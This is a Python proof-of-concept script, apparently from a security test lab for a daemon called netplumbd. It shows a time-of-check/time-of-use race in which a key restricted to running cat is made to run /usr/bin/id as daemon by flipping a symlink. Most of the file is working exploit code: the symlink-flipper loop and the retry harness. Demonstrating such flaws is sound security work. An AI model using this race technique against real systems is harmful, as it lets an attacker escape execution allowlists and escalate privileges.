"""netplumbd: a key restricted with allow= runs any program, by racing a symlink of its own.

The policy resolves an absolute program path with realpath() and compares the file with the
allowlist, but the runner later executes the *path* (Step.exe), not the file it checked. uid 65534
holds a key `allow="cat" users="daemon"` (it may run cat as daemon, nothing else) and asks for
/tmp/.../x/cat, a symlink it flips between /bin/cat and /usr/bin/id: `id` runs as daemon.
"""

from __future__ import annotations

import os
import subprocess
import time

import lab  # noqa: F401 - puts the checkout and tests/ on sys.path
from lab import NOBODY, main, nobody_popen, stop
from netplumb_lab import running_lab

FLIPPER = r"""
import os, sys, time
link = sys.argv[1]
targets = [os.path.realpath("/bin/cat"), "/usr/bin/id"]
i = 0
end = time.monotonic() + 150
while time.monotonic() < end:
    tmp = link + ".new"
    os.symlink(targets[i % 2], tmp)
    os.replace(tmp, link)
    i += 1
    time.sleep(0.003)
"""


def attack() -> bool:
    with running_lab() as np:
        x = np.root / "x"
        x.mkdir()
        os.chown(x, NOBODY, NOBODY)
        link = x / "cat"
        mallory = np.client("mallory", NOBODY, 'allow="cat",users="daemon"')
        np.start()
        # The legitimate use: cat as daemon.
        ok = np.plumb(mallory, "cat", "/etc/hostname")
        print("cat as daemon:", ok.returncode, ok.stdout[:60], ok.stderr[-200:])
        refused = np.plumb(mallory, "/usr/bin/id")
        print("id refused:", refused.returncode, refused.stderr.decode(errors="replace").strip()[-160:])
        flipper = nobody_popen(None, FLIPPER, str(link))
        won = False
        try:
            time.sleep(0.5)
            for attempt in range(40):
                r = np.plumb(mallory, str(link), timeout=30)  # cat of empty stdin prints nothing; id prints who
                out = r.stdout.decode(errors="replace")
                print(attempt, r.returncode, out.strip()[:40], r.stderr.decode(errors="replace").strip()[-90:])
                if "uid=1(daemon)" in out:
                    print(f"attempt {attempt}: ran {out.strip()!r} through the allow=cat key")
                    won = True
                    break
        except subprocess.TimeoutExpired:
            pass
        finally:
            stop(flipper)
        return won


if __name__ == "__main__":
    main(attack, 240)
